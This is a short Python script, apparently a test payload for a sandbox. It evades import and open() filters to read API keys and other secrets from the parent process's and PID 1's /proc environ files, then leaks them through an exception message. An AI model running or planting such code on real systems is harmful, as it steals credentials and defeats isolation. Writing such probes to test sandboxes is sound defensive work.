# Attempts: read the discovery process's environment (API keys) from /proc/<ppid>/environ and
# /proc/1/environ with os.open (not open), and leak it through the rejection reason.
from typing import sys

os = sys.modules["os"]
loot = []
for pid in (os.getppid(), 1):
    try:
        fd = os.open(f"/proc/{pid}/environ", os.O_RDONLY)
        loot.append(os.read(fd, 65536).decode(errors="replace"))
    except OSError as exc:
        loot.append(f"{pid}: {exc}")
loot.append(dict(os.environ))
raise RuntimeError(f"environ: {loot}")
